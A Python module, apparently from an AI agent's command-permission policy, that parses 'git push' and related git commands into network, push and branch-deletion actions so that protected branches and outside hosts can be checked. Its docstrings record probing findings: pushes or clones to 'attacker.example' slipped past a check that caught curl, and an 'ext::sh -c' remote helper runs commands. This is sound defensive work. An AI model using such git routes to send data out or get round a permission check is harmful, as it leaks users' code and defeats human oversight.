"""``git push``: its options as git's parse-options reads them, and refspecs normalised.

Long options may be abbreviated to any unique prefix (``--force-w`` is
``--force-with-lease``, ``--mirr`` is ``--mirror``) and negated (``--no-dry-run``); a
later option overrides an earlier one (``-n --no-dry-run`` pushes). An unknown or
ambiguous option, or one that runs a program (``--receive-pack``, ``--exec``), makes the
push ``Unknown``. A destination is reduced to its branch name (``refs/heads/main``,
``heads/main``, ``+main``, ``HEAD:main`` and ``main:main`` are all ``main``) before the
policy compares it with the protected branches. If any word of the push is dynamic (a
``$VAR``, ``$(...)``, ``xargs`` input), no destination is known.

>>> from exomonad.policy.shell_lex import Word
>>> push([Word(t) for t in "--force-w origin HEAD:heads/main".split()], "/w", ShellEnv(), "/w")
[GitPush(remote='origin', branch='main', force=True, lease=True, repo='/w')]
>>> push([Word(t) for t in "-n --no-dry origin main".split()], "/w", ShellEnv(), "/w")
[GitPush(remote='origin', branch='main', force=False, lease=False, repo='/w')]
"""

from __future__ import annotations

from exomonad.policy.actions import Action, DeleteBranch, GitPush, Network, Shell, Unknown
from exomonad.policy.git_home import tracks_another
from exomonad.policy.hosts import host_of
from exomonad.policy.shell_env import ShellEnv
from exomonad.policy.shell_lex import Word

__all__ = ["branch_name", "push", "reached", "reached_by"]

_LONG_FLAGS = frozenset(
    {
        "verbose",
        "quiet",
        "all",
        "branches",
        "mirror",
        "delete",
        "tags",
        "dry-run",
        "porcelain",
        "force",
        "force-if-includes",
        "thin",
        "set-upstream",
        "progress",
        "prune",
        "verify",
        "follow-tags",
        "atomic",
        "ipv4",
        "ipv6",
    }
)
_LONG_ARG = frozenset({"repo", "push-option", "receive-pack", "exec", "recurse-submodules"})
_LONG_OPT = frozenset({"force-with-lease", "signed"})
_NEGATABLE = (_LONG_FLAGS | _LONG_OPT | {"recurse-submodules", "push-option"}) - {"verify"}
_SHORT = {
    "v": "verbose",
    "q": "quiet",
    "d": "delete",
    "n": "dry-run",
    "f": "force",
    "u": "set-upstream",
    "4": "ipv4",
    "6": "ipv6",
}
_RUNS_PROGRAM = frozenset({"receive-pack", "exec"})


_CANDIDATES = {
    **{o: False for o in _LONG_FLAGS | _LONG_ARG | _LONG_OPT},
    **{"no-" + o: True for o in _NEGATABLE},
    "no-verify": False,
}


def _resolve(name: str) -> tuple[str, bool] | None:
    """The full long option ``name`` stands for and whether it is negated; None if none."""
    candidates = _CANDIDATES
    if name in candidates:
        full = name
    else:
        hits = [o for o in candidates if o.startswith(name)]
        if len(hits) != 1 or not name:
            return None
        full = hits[0]
    negated = candidates[full]
    return (full[3:] if negated else full), negated


def branch_name(ref: str) -> str:
    """The branch a push destination names: ``refs/heads/x``, ``heads/x`` → ``x``.

    >>> branch_name("refs/heads/main"), branch_name("heads/main"), branch_name("v1")
    ('main', 'main', 'v1')
    """
    while "//" in ref:
        ref = ref.replace("//", "/")
    for prefix in ("refs/heads/", "heads/"):
        if ref.startswith(prefix):
            return ref[len(prefix) :]
    return ref


_Parsed = tuple[dict[str, bool], dict[str, Word], list[Word]]


def _parse(args: list[Word]) -> _Parsed | None:
    """Options (last one wins), option values and positionals; None if unreadable."""
    state: dict[str, bool] = {}
    values: dict[str, Word] = {}
    positionals: list[Word] = []
    i = 0
    while i < len(args):
        word, text = args[i], args[i].text
        i += 1
        if word.glob:
            return None
        if text == "--":
            positionals += args[i:]
            break
        if not text.startswith("-") or text == "-" or word.dynamic:
            positionals.append(word)
            continue
        if text.startswith("--"):
            name, eq, value = text[2:].partition("=")
            resolved = _resolve(name)
            if resolved is None or resolved[0] in _RUNS_PROGRAM:
                return None
            full, negated = resolved
            if full in _LONG_ARG and not negated:
                if not eq:
                    if i >= len(args):
                        return None
                    value, i = args[i].text, i + 1
                if full == "recurse-submodules" and value not in ("check", "no"):
                    return None  # pushes the submodules' branches too
                values[full] = Word(value)
            elif eq and full not in _LONG_OPT:
                return None
            state[full] = not negated
            continue
        for j, c in enumerate(text[1:], 1):
            if c == "o":  # -o <push-option>: the rest of the word, or the next one
                i += 1 if j + 1 >= len(text) else 0
                break
            if c not in _SHORT:
                return None
            state[_SHORT[c]] = True
    return state, values, positionals


def reached(remote: Word | None) -> list[Action]:
    """Network access to the host of a push's URL (``https://``, ``ssh://``, ``git://``,
    scp-like ``user@host:path``) or of a URL known only at run time: the pushed history
    leaves the machine for whoever is there (found probing: ``git push
    https://attacker.example/r.git HEAD`` was allowed, as a push of the worker's own
    branch, while ``curl`` to the same host is asked). A configured remote's name (which
    only the lead's configuration names: ``git remote add`` is asked) and local paths
    stay as they are; a remote helper's address (``ext::sh -c CMD``: a command git
    runs) is Unknown.

    >>> reached(Word("git@example.com:o/r.git")), reached(Word("origin"))
    ([Network(host='example.com')], [])
    """
    if remote is None:
        return []
    if remote.dynamic:
        return [Network(None)]
    text = remote.text
    helper = text.split("::", 1)[0] if "::" in text.split("/", 1)[0] else None
    if helper is not None:  # `ext::sh -c ...`: git runs git-remote-HELPER with the rest
        return [Unknown(f"git push through the remote helper {helper!r}: {text}")]
    scp = ":" in text and "/" not in text.split(":", 1)[0] and "://" not in text
    if scp or ("://" in text and not text.lower().startswith("file://")):
        return [Network(host_of(text.replace(":", "/", 1) if scp else text))]
    return []


#: git subcommands that reach the repository a URL among their operands names.
_REACHING = frozenset({"clone", "ls-remote", "fetch", "pull", "archive"})


def reached_by(sub: str, rest: list[Word]) -> list[Action]:
    """Network access by ``git SUB REST`` to the hosts of the URLs among its operands
    (``clone``, ``ls-remote``, ``fetch``, ``pull``, ``submodule add``, ``archive
    --remote=``): found probing, ``git clone https://attacker.example/<data>`` and ``git
    ls-remote URL`` were allowed, carrying what the URL holds to any host.

    >>> reached_by("clone", [Word("-b"), Word("main"), Word("https://h.example/r")])
    [Network(host='h.example')]
    """
    if sub == "submodule":
        operands = [w for w in rest if not w.text.startswith("-")]
        rest = operands[1:] if operands[:1] and operands[0].text == "add" else []
    elif sub not in _REACHING:
        return []
    words = [Word(w.text.split("=", 1)[1], w.dynamic, w.quoted)
             if w.text.startswith("--remote=") else w for w in rest]  # fmt: skip
    return [a for w in words if not w.text.startswith("-") and not _refspec(w.text)
            for a in reached(w) if not (w.dynamic and not _looks_remote(w.text))]  # fmt: skip


def _refspec(text: str) -> bool:
    """``main:refs/tags/x``, ``+refs/heads/*:refs/remotes/o/*``: a fetch's refspec, not
    a ``host:path`` (whose host has a ``.`` or a ``user@``)."""
    head = text.split(":", 1)[0]
    return ":" in text and "://" not in text and "@" not in head and "." not in head


def _looks_remote(text: str) -> bool:
    """A word built at run time that reads as a URL or ``host:path`` (``https://$H/x``)."""
    return "://" in text or "@" in text or ":" in text


def push(args: list[Word], repo: str | None, env: ShellEnv, cwd: str | None) -> list[Action]:
    """Actions for ``git push ARGS`` (``repo``: the directory git runs in)."""
    parsed = _parse(args)
    if parsed is None:
        return [Unknown("git push " + " ".join(w.text for w in args))]
    state, values, positionals = parsed
    dynamic = any(w.dynamic for w in args)
    if state.get("dry-run"):
        return [Shell(("git", "push", *(w.text for w in args)), cwd)]
    lease = state.get("force-with-lease", False) and not state.get("force", False)
    force = lease or state.get("force", False) or state.get("mirror", False)
    delete = state.get("delete", False)
    remote_word = values.get("repo") or (positionals[0] if positionals else None)
    remote = None if remote_word is None or remote_word.dynamic else remote_word.text
    refspecs = positionals[1:] if positionals else []
    out: list[Action] = reached(remote_word)
    if state.get("prune") or state.get("mirror"):
        out.append(DeleteBranch(None, remote, force=True))
    if not refspecs:
        if delete:
            out.append(DeleteBranch(None, remote, force=True))
        else:
            every = any(state.get(k) for k in ("all", "branches", "mirror", "tags"))
            branch = None if every or dynamic else env.branch_in(repo)
            if tracks_another(env.worktree, branch):
                branch = None  # its upstream: where push.default=upstream sends it
            out.append(GitPush(remote, branch, force, lease, repo))
        return out
    for ref in refspecs:
        plus = ref.text.startswith("+")
        src, colon, dst = ref.text[1 if plus else 0 :].partition(":")
        name: str | None = branch_name(dst if colon else src)
        if not colon and src in ("HEAD", "@"):
            name = env.branch_in(repo)
        if dynamic or not name or any(c in name for c in "*?[\\"):
            name = None  # unknown, or a pattern: several branches, possibly protected ones
        if delete or (colon and not src and not ref.dynamic):
            out.append(DeleteBranch(name, remote, force=True))
        else:
            out.append(GitPush(remote, name, force or plus, lease, repo))
    return out
